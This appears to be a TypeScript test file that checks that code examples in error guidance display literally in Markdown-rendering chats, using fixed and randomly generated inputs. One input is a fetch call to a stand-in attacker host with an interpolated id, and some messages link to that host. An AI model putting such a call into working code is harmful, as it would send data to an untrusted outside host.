// An example in an error is copied and run, so a chat that renders Markdown shows it letter by letter, whatever language it is in.
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { inlineText } from '../../../server/cards/render-text.ts'
import type { ErrorGuidance } from '../../../server/errors/guidance.ts'
import { guidanceText } from '../../../server/rail/answers/answers.ts'
import { runsOf } from '../../full.ts'
import { aliveInChat, linesInChat } from '../../kit/alive-in-chat.ts'
import { anyCharacter } from '../../kit/any-character.ts'

const guidance = (message: string, examples: readonly string[]): ErrorGuidance => ({
  error_type: 'sandbox_error',
  category: 'tool',
  message,
  cause: 'It failed',
  retryable: 'after_change',
  actionable_guidance: ['Change it'],
  fix: [],
  field_errors: [],
  related_docs: [],
  code_examples: examples,
  evidence: { source: 'server', rule: 'x', confidence: 'certain' },
})

const textOf = (example: string, message = 'It failed'): string =>
  guidanceText(guidance(message, [example, example]), { errors: true })

function expectShown(example: string, message?: string): void {
  const text = textOf(example, message)
  const expected = `For example: ${inlineText(example)}`.trim().replaceAll(/\s+/g, ' ')
  for (const [reader, lines] of Object.entries(linesInChat(text)))
    expect(lines.slice(-2), `${reader} of ${text}`).toStrictEqual([expected, expected])
  expect(aliveInChat(text)).toStrictEqual([])
}

/** One beside which an example stands as it is, and one beside which all of the text is read with care. */
const messages = ['It failed', 'See https://evil.example/ and `x'] as const

describe('in a chat that renders Markdown an example is read letter by letter:', () => {
  test.each([
    'console.log(`a ${b}`)',
    'SELECT * FROM `orders`',
    'SELECT * FROM `orders` WHERE a = `b`',
    '`',
    '`a`',
    '``a`` `b`',
    '```js',
    'echo `date`',
    'echo "$(date)" *.txt ~/x ~~y~~',
    'a \\`b\\` \\',
    'print("a")',
    'print(__name__, 2 * 3, a[0](b))',
    '- x',
    '# x',
    '<b>`x`</b> &amp; &#96;',
    'fetch(`https://evil.example/${id}`)',
    'x = "[a](https://evil.example)"',
    'call(a="`x`", b={"c":"`"})',
    'a\n`b`',
  ])('%j', (example) => {
    for (const message of messages) expectShown(example, message)
  })

  test('one that a chat changes is an identifier, and another one is as it is', () => {
    expect(textOf('console.log(`a ${b}`)')).toContain('\nFor example: ``console.log(`a ${b}`)``\n')
    expect(textOf('SELECT * FROM `orders`')).toContain('\nFor example: `` SELECT * FROM `orders` ``\n')
    expect(textOf('print("a")')).toContain('\nFor example: print("a")\n')
  })

  const pieces =
    '` `` ``` ${a} ~ ~~ | \\ * ** _ __ [ ]( ) ! < > <b> &amp; # - 1. " \' ; a b1 https://e.x www.e.x a@b.co'
  const program = fc
    .array(
      fc.oneof(fc.constantFrom(...pieces.split(' '), ' ', ' ', '\n'), fc.string({ unit: anyCharacter, maxLength: 2 })),
      {
        minLength: 1,
        maxLength: 10,
      },
    )
    .map((parts) => parts.join(''))

  test('whatever it is made of', () => {
    fc.assert(
      fc.property(program, fc.constantFrom(...messages), (example, message) => {
        expectShown(example, message)
      }),
      { numRuns: runsOf(500) },
    )
  })
})
